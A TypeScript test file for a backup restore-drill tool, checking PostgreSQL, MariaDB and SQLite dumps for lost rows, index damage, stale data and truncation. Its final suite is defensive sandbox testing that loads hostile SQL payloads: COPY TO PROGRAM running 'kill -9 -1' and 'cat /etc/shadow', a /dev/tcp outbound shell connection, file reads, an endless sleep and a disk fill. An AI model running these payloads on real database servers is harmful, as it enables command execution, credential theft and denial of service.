/**
 * Level 4 on real databases behind real backups of the agent's own sources: what PostgreSQL, MariaDB and SQLite make of them. An
 * empty dump of PostgreSQL and one that was cut short: tests/red.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DatabaseBench } from './database-bench.ts';

let bench: DatabaseBench;
beforeAll(async () => {
  bench = await DatabaseBench.start();
}, 120_000);
afterAll(async () => await bench.stop());

const ORDERS = `
  CREATE TABLE customer(id int PRIMARY KEY, name text NOT NULL);
  CREATE TABLE "order"(id int PRIMARY KEY, customer_id int NOT NULL REFERENCES customer, placed_at timestamptz NOT NULL);
  INSERT INTO customer SELECT n, 'customer ' || n FROM generate_series(1, 100) n;
  INSERT INTO "order" SELECT n, 1 + n % 100, now() - n * interval '1 minute' FROM generate_series(1, 2000) n;
  CREATE INDEX ON "order"(placed_at);`;

describe('PostgreSQL', () => {
  test('opens a good dump: level 4 with counts, amcheck, what was declared, and the newest time', async () => {
    const checks = {
      invariants: [
        {
          name: 'every order has a customer',
          sql: 'SELECT count(*) FROM "order" WHERE customer_id IS NULL',
          expect: '0',
        },
      ],
      newest: [{ table: 'order', column: 'placed_at', maxAgeMinutes: 60 }],
    };
    const database = bench.postgresDatabase('good', ORDERS);
    const { drill, point } = await bench.drill(bench.postgresSource([database], checks));
    expect(drill.errorMessage).toBeNull();
    expect(drill).toMatchObject({ state: 'passed', level: 4, warnings: [] });
    expect(point).toMatchObject({ levelPassed: 4, isUsable: true, state: 'sealed' });
    expect(bench.looks(drill)).toEqual([
      ['freshness', 'passed'],
      ['invariant', 'passed'],
      ['restore', 'passed'],
      ['row_count', 'passed'],
      ['structure', 'passed'],
      ['witness', 'passed'],
    ]);
    expect(drill.facts).toMatchObject({
      levelReached: 4,
      rows: { '/postgres/main/good.dump': { 'public.customer': 100, 'public.order': 2000 } },
    });
    expect(Math.abs(drill.newestBusinessAt!.getTime() - Date.now())).toBeLessThan(10 * 60_000);
    expect(Object.keys(drill.timings as object).sort()).toEqual([
      ...['checks', 'firstByte', 'locate', 'provision', 'queue', 'rebuild', 'start', 'total', 'transfer'],
    ]);
    expect((drill.steps as { state: string }[]).every(({ state }) => state === 'done')).toBe(true);
    expect(Number(drill.rtoEstimatedMs)).toBeGreaterThan(0);
    expect((drill.evidence as { confinement: string[] }).confinement).toContain('own-files');
  });
  test('nine tenths of the rows gone since the last drill is a failure; the next good one answers it', async () => {
    const database = bench.postgresDatabase('shrinking', ORDERS);
    const device = await bench.device(bench.postgresSource([database]));
    expect((await bench.backUpAndDrill(device)).drill.state).toBe('passed');
    bench.postgres.sql('DELETE FROM "order" WHERE id > 200', database);
    const { drill, alerts } = await bench.backUpAndDrill(device);
    expect(drill.state).toBe('failed');
    expect(drill.errorMessage).toContain('has lost rows since the last passed restore test');
    expect(drill.errorMessage).toContain('public.order: 200 of 2,000 rows are left.');
    expect(alerts).toEqual(['drill_failed']);
    bench.postgres.sql(`INSERT INTO "order" SELECT n, 1 + n % 100, now() FROM generate_series(201, 2000) n`, database);
    const good = await bench.backUpAndDrill(device);
    expect(good.drill.state).toBe('passed');
    expect(good.alerts).toEqual([]);
  });
  test('an index whose order depends on who asks is found by amcheck', async () => {
    // As after a change of the system's collation: built in one order, read in another.
    const database = bench.postgresDatabase(
      'crooked',
      `CREATE FUNCTION crooked(int, int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
         RETURN CASE WHEN current_setting('application_name') = 'pg_restore' THEN $2 - $1 ELSE $1 - $2 END; END $$;
       CREATE OPERATOR CLASS crooked_ops FOR TYPE int USING btree AS
         OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 >=, OPERATOR 5 >, FUNCTION 1 crooked(int, int);
       CREATE TABLE t(a int); INSERT INTO t SELECT generate_series(1, 500); CREATE INDEX t_a ON t(a crooked_ops);`,
    );
    const { drill } = await bench.drill(bench.postgresSource([database]));
    expect(drill.state).toBe('failed');
    expect(drill.errorMessage).toContain("PostgreSQL's own check found damage in the database crooked");
    expect(drill.errorMessage).toContain('t_a');
  });
  test('an invariant that does not hold, and a stale replica, are failures', async () => {
    const database = bench.postgresDatabase(
      'stale',
      `CREATE TABLE sale(id int, sold_at timestamptz); INSERT INTO sale SELECT n, now() - interval '9 days' FROM generate_series(1, 50) n`,
    );
    const invariants = [{ name: 'a sale of today', sql: 'SELECT count(*) FROM sale WHERE id = 0', expect: '1' }];
    const wrong = await bench.drill(bench.postgresSource([database], { invariants }));
    expect(wrong.drill.errorMessage).toContain('"a sale of today" should be 1, and is 0');
    const old = { table: 'sale', column: 'sold_at', maxAgeMinutes: 1440 };
    const stale = await bench.drill(bench.postgresSource([database], { newest: [old] }));
    expect(stale.drill.errorMessage).toMatch(
      /The newest sold_at of sale was 9 days old when the database stale was backed up/,
    );
    expect(stale.drill.newestBusinessAt).not.toBeNull();
    const warned = await bench.drill(bench.postgresSource([database], { newest: [{ ...old, onOld: 'warn' }] }));
    expect(warned.drill).toMatchObject({ state: 'passed' });
    expect(bench.looks(warned.drill)).toContainEqual(['freshness', 'warning']);
  });
  test('the roles of the server are made before a database that belongs to them', async () => {
    bench.postgres.sql('CREATE ROLE keeper; CREATE ROLE "odd one" LOGIN PASSWORD \'x\'; GRANT keeper TO "odd one"');
    const database = bench.postgresDatabase(
      'owned',
      'CREATE TABLE t(a int); INSERT INTO t VALUES (1); ALTER TABLE t OWNER TO "odd one"; GRANT SELECT ON t TO keeper',
    );
    const withRoles = await bench.drill(bench.postgresSource([database], undefined, true));
    expect(withRoles.drill.errorMessage).toBeNull();
    expect((await bench.drill(bench.postgresSource([database]))).drill.state).toBe('passed');
  });
});

describe('MariaDB', () => {
  const SALES = `CREATE TABLE sale(id INT PRIMARY KEY, sold_at DATETIME NOT NULL, KEY(sold_at)) ENGINE=InnoDB;
    INSERT INTO sale SELECT seq, UTC_TIMESTAMP() - INTERVAL seq MINUTE FROM seq_1_to_1000;`;
  test('opens a good dump: level 4 with counts, CHECK TABLE and the newest time', async () => {
    const database = bench.mariadbDatabase('goods', SALES);
    const checks = {
      invariants: [{ name: 'a thousand sales', sql: 'SELECT COUNT(*) FROM sale', expect: '1000' }],
      newest: [{ table: 'sale', column: 'sold_at', maxAgeMinutes: 60 }],
    };
    const { drill, point } = await bench.drill(bench.mariadbSource([database], checks));
    expect(drill.errorMessage).toBeNull();
    expect(drill.facts).toMatchObject({ levelReached: 4, rows: { '/mysql/web/goods.sql': { sale: 1000 } } });
    expect(point.levelPassed).toBe(4);
  });
  test('an empty database, and a dump cut short, are failures', async () => {
    const empty = bench.mariadbDatabase('void', '');
    expect((await bench.drill(bench.mariadbSource([empty]))).drill.errorMessage).toContain('holds no table at all');
    const database = bench.mariadbDatabase('severed', SALES);
    const dump = `mariadb-dump --no-defaults --protocol=tcp -h 127.0.0.1 -P ${bench.mariadb.port} -u keeper ${database}`;
    const cut = bench.commandSource('severed.sql', `${dump} | head -n -1`, { MYSQL_PWD: bench.mariadb.password });
    expect((await bench.drill(cut)).drill.errorMessage).toContain('is cut off: its last line is missing');
  });
});

describe('SQLite', () => {
  const NOTES = 'CREATE TABLE note(id INTEGER PRIMARY KEY, written TEXT); ';
  test('opens a good copy: level 4 with counts', async () => {
    const file = bench.sqliteFile(
      'app.db',
      `${NOTES}INSERT INTO note(written) VALUES (datetime('now')), (datetime('now'));`,
    );
    const checks = {
      invariants: [{ name: 'two notes', sql: 'SELECT count(*) FROM note', expect: '2' }],
      newest: [{ table: 'note', column: 'written', maxAgeMinutes: 60 }],
    };
    const { drill, point } = await bench.drill(bench.sqliteSource([file], checks));
    expect(drill.errorMessage).toBeNull();
    expect(drill.facts).toMatchObject({ levelReached: 4, rows: { '/sqlite/app/app.db': { note: 2 } } });
    expect(point.levelPassed).toBe(4);
  });
  test('rows that point nowhere, and an empty database, are failures', async () => {
    const orphans = bench.sqliteFile(
      'orphans.db',
      `PRAGMA foreign_keys = OFF; ${NOTES}CREATE TABLE tag(note INTEGER REFERENCES note(id)); INSERT INTO tag VALUES (7);`,
    );
    expect((await bench.drill(bench.sqliteSource([orphans]))).drill.errorMessage).toContain(
      'point at rows that are not there',
    );
    const hollow = bench.sqliteFile('hollow.db', NOTES);
    expect((await bench.drill(bench.sqliteSource([hollow]))).drill.errorMessage).toContain('tables and not one row');
  });
});

test('a restore point without a dump reaches level 3, and says why not 4', async () => {
  const { drill, point } = await bench.drill(undefined);
  expect(drill).toMatchObject({ state: 'passed', level: 4 });
  expect(bench.looks(drill)).toEqual([
    ['restore', 'skipped'],
    ['witness', 'passed'],
  ]);
  expect(point.levelPassed).toBe(3);
});

describe('a hostile dump', () => {
  /** Runs when the dump is loaded, as the server's superuser. */
  const hostile = (sql: string) => `SELECT 1;\n${sql}\n`;
  test('that kills everything in its sandbox proves nothing, and is said', async () => {
    const { state, warnings } = await bench.openHostile(hostile(`COPY (SELECT 1) TO PROGRAM 'kill -9 -1';`));
    expect(state).toBe('skipped');
    expect(warnings.join()).toContain('Not everything could be opened');
  });
  test.each([
    ['starts programs', `COPY (SELECT 1) TO PROGRAM 'touch /usr/escaped; cat /etc/shadow; exit 1';`],
    ['reads files of the service', `CREATE TABLE loot(line text); COPY loot FROM '${import.meta.filename}';`],
    [
      'connects out',
      `CREATE TABLE loot(line text); COPY loot FROM PROGRAM 'bash -c "exec 3<>/dev/tcp/127.0.0.1/PORT; echo got out >&3"';`,
    ],
    ['never ends', 'SELECT pg_sleep(3600);'],
    ['fills the disk', `CREATE TABLE big AS SELECT repeat('x', 1000) || n FROM generate_series(1, 20000000) n;`],
  ])('that %s harms the sandbox alone', async (_name, sql) => {
    const { state, message, contacts } = await bench.openHostile(hostile(sql));
    expect(state).toBe('failed');
    expect(message).toMatch(/could not load|took (?:longer|more)/);
    expect(contacts).toBe(0);
  });
});
